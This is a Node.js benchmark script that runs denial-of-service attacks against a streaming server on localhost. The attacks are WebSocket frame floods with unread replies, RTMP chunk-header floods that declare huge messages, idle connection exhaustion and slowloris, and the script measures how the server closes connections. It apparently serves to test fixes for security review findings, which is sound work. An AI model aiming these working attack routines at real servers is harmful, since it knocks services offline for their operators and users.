'use strict';
// The attack section's attacker (bench/attack.js says what each attack is and why): a child
// process, so that its floods do not slow the event loop that times the joins. Run as
// `node bench/attacker.js attacker SPEC`, it runs the attack SPEC (JSON) names from
// ATTACKER_ADDR until SPEC.end, closes everything and prints its figures as one JSON line.

const crypto = require('node:crypto');
const net = require('node:net');
const { sleep, summary } = require('./common');

const ATTACKER_ADDR = '127.0.0.2';
const TARGET = '127.0.0.1';
const noop = () => {};

/** A TCP connection from the attacker's address; rejects if refused, closed or slow. */
function dial(port, ms = 3000) {
  return new Promise((resolve, reject) => {
    const s = net.connect({ port, host: TARGET, localAddress: ATTACKER_ADDR });
    s.on('error', noop);
    const t = setTimeout(() => {
      s.destroy();
      reject(new Error('connect timeout'));
    }, ms);
    s.once('connect', () => {
      clearTimeout(t);
      resolve(s);
    });
    s.once('close', () => {
      clearTimeout(t);
      reject(new Error('refused'));
    });
  });
}

/** Reads from `s` until `enough(bytes)`; rejects when the server closes first or after `ms`. */
function readUntil(s, enough, ms = 3000) {
  return new Promise((resolve, reject) => {
    let buf = Buffer.alloc(0);
    const finish = (err) => {
      clearTimeout(t);
      s.off('data', onData);
      s.off('close', onClose);
      if (err) reject(err);
      else resolve(buf);
    };
    const onData = (d) => {
      buf = Buffer.concat([buf, d]);
      if (enough(buf)) finish();
    };
    const onClose = () => finish(new Error('closed by the server'));
    const t = setTimeout(() => finish(new Error('no answer')), ms);
    s.on('data', onData);
    s.once('close', onClose);
  });
}

/** Resolves once `s` can take more, is closed, or at `until` (epoch ms). */
function drained(s, until) {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(t);
      s.off('drain', done);
      s.off('close', done);
      resolve();
    };
    const t = setTimeout(done, Math.max(0, until - Date.now()));
    s.once('drain', done);
    s.once('close', done);
  });
}

/** Writes `buf` in 64 KiB slices, waiting while the server reads no more; bytes handed over. */
async function writeAll(s, buf, until) {
  let off = 0;
  while (off < buf.length && !s.destroyed && Date.now() < until) {
    const part = buf.subarray(off, off + 65536);
    off += part.length;
    if (!s.write(part)) await drained(s, until);
  }
  return off - s.writableLength;
}

/** The client side of the simple RTMP handshake: C0+C1, read S0+S1+S2, C2 (= S1). */
async function rtmpHandshake(s) {
  const c0c1 = Buffer.alloc(1 + 1536);
  c0c1[0] = 3;
  crypto.randomFillSync(c0c1, 9);
  s.write(c0c1);
  const s012 = await readUntil(s, (b) => b.length >= 1 + 2 * 1536);
  s.write(s012.subarray(1, 1 + 1536));
}

/** Notes in `c.lived` how long `s` lived if the server, not the attacker's own stop, closes
 *  it: a cap closes a connection at once, a timeout after its length. */
function noteClose(s, c, t) {
  const opened = Date.now();
  const lived = (c.lived = c.lived || []); // settle() may have taken c.lived away already
  s.once('close', () => !t.stopping && lived.push((Date.now() - opened) / 1000));
}

/** Replaces `c.lived` by the number of server closes and their lifetimes' summary (s). */
function settle(c) {
  c.closedByServer = (c.lived || []).length;
  c.livedSecs = summary(c.lived || []);
  delete c.lived;
  return c;
}

/** Runs `n` tasks through `width` workers. */
async function pool(n, width, task) {
  let next = 0;
  const worker = async () => {
    while (next < n) await task(next++);
  };
  await Promise.all(Array.from({ length: Math.min(n, width) }, worker));
}

/** `frame` repeated to about `bytes`. */
function repeated(frame, bytes) {
  return Buffer.concat(Array(Math.ceil(bytes / frame.length)).fill(frame));
}

// Client frames must be masked; a zero mask leaves the payload as it is.
const TEXT_FRAMES = repeated(Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0x7b, 0x7d]), 1 << 20); // `{}`
const BINARY_FRAMES = repeated(Buffer.from([0x82, 0x80, 0, 0, 0, 0]), 1 << 20); // empty

/** Finding 5. */
async function wsUnread(p, t, held) {
  const url = new URL(p.signal);
  const st = { sockets: 0, upgradesFailed: 0, bytesSent: 0 };
  while (Date.now() < t.end && st.bytesSent < p.wsBytes && st.sockets < p.wsMaxSockets) {
    let s;
    try {
      s = await dial(Number(url.port));
      s.write(`GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`);
      const head = await readUntil(s, (b) => b.includes('\r\n\r\n'));
      if (!head.toString('latin1').startsWith('HTTP/1.1 101')) throw new Error('upgrade refused');
    } catch (_) {
      if (s) s.destroy();
      st.upgradesFailed++;
      await sleep(100);
      continue;
    }
    // From here on nothing is read: the server's replies pile up on its side.
    s.pause();
    held.push(s);
    st.sockets++;
    noteClose(s, st, t);
    // A megabyte of each kind in turn: text first, since a server may close on the first
    // binary frame.
    for (let i = 0; !s.destroyed && Date.now() < t.end && st.bytesSent < p.wsBytes; i++) {
      st.bytesSent += await writeAll(s, i % 2 ? BINARY_FRAMES : TEXT_FRAMES, t.end);
    }
  }
  await sleep(t.end - Date.now());
  return settle(st);
}

/** 142-byte chunks: a fmt-0 header declaring a 16 MB video message on chunk stream 64 + i,
 *  then the first 128 bytes of it (the default chunk size). */
function hugeMessageHeaders(count) {
  const one = 3 + 11 + 128;
  const buf = Buffer.alloc(count * one, 0x17);
  for (let i = 0; i < count; i++) {
    const o = i * one;
    buf[o] = 1; // fmt 0, 3-byte basic header: chunk stream id 64 + the next two bytes (LE)
    buf.writeUInt16LE(i, o + 1);
    buf.writeUIntBE(0, o + 3, 3); // timestamp
    buf.writeUIntBE(0xffffff, o + 6, 3); // message length: 16 MB - 1
    buf[o + 9] = 9; // video
    buf.writeUInt32LE(1, o + 10); // message stream id
  }
  return buf;
}

/** Finding 2. */
async function rtmpChunks(p, t, held) {
  const flood = hugeMessageHeaders(p.chunkStreams);
  const st = { connections: [] };
  // One after the other, as in the review: the first grows the server, the second ended it.
  for (let i = 0; i < p.chunkConnections && Date.now() < t.end; i++) {
    const c = { bytesSent: 0, error: null };
    st.connections.push(c);
    try {
      const s = await dial(p.rtmpPort);
      held.push(s);
      noteClose(s, c, t);
      await rtmpHandshake(s);
      s.resume(); // whatever the server says is read and dropped
      c.bytesSent = await writeAll(s, flood, t.end);
    } catch (e) {
      c.error = e.message;
    }
  }
  await sleep(t.end - Date.now());
  st.connections.forEach(settle);
  return st;
}

/** Finding 9, RTMP. */
async function rtmpIdle(p, t, held) {
  const st = { tried: 0, handshaken: 0, refused: 0, openAtEnd: 0 };
  const ok = [];
  await pool(p.idleConnections, 32, async () => {
    if (Date.now() >= t.rampEnd) return;
    st.tried++;
    let s;
    try {
      s = await dial(p.rtmpPort);
      await rtmpHandshake(s);
    } catch (_) {
      if (s) s.destroy();
      st.refused++;
      return;
    }
    st.handshaken++;
    held.push(s);
    ok.push(s);
    s.resume();
    noteClose(s, st, t);
  });
  await sleep(t.end - Date.now());
  st.openAtEnd = ok.filter((s) => !s.destroyed).length;
  return settle(st);
}

/** Finding 9, HTTP: a request line and Host at once, then an endless header a byte a second. */
async function slowloris(p, t, held) {
  const flv = new URL(p.flv);
  const targets = [
    { name: 'signal', port: Number(new URL(p.signal).port), head: `GET ${new URL(p.signal).pathname} HTTP/1.1\r\nHost: ${TARGET}\r\n` },
    { name: 'flv', port: Number(flv.port), head: `GET ${flv.pathname}/slow.flv HTTP/1.1\r\nHost: ${TARGET}\r\n` },
  ];
  const st = {};
  const open = [];
  for (const target of targets) {
    const c = (st[target.name] = { tried: 0, opened: 0, refused: 0, openAtEnd: 0 });
    await pool(p.slowPerPort, 32, async () => {
      if (Date.now() >= t.rampEnd) return;
      c.tried++;
      try {
        const s = await dial(target.port);
        held.push(s);
        s.write(target.head + 'X-Slow: ');
        s.resume();
        noteClose(s, c, t);
        open.push({ s, c });
        c.opened++;
      } catch (_) {
        c.refused++;
      }
    });
  }
  while (Date.now() < t.end) {
    for (const { s } of open) if (!s.destroyed) s.write('a');
    await sleep(Math.min(1000, t.end - Date.now()));
  }
  for (const { s, c } of open) if (!s.destroyed) c.openAtEnd++;
  Object.values(st).forEach(settle);
  return st;
}

const ATTACKS = { 'ws-unread': wsUnread, 'rtmp-chunks': rtmpChunks, 'rtmp-idle': rtmpIdle, slowloris };

/** The child: runs one attack until `p.end` (epoch ms), closes everything, prints its stats. */
async function attacker(p) {
  const t = { rampEnd: p.rampEnd, end: p.end, stopping: false };
  const held = [];
  const stats = await ATTACKS[p.name](p, t, held);
  await sleep(t.end - Date.now());
  t.stopping = true;
  for (const s of held) s.destroy();
  return stats;
}

module.exports = { ATTACKER_ADDR, ATTACK_NAMES: Object.keys(ATTACKS) };

if (require.main === module && process.argv[2] === 'attacker') {
  const print = (r) => process.stdout.write(JSON.stringify(r) + '\n', () => process.exit(0));
  attacker(JSON.parse(process.argv[3])).then(print, (e) => print({ error: e.stack || e.message }));
}
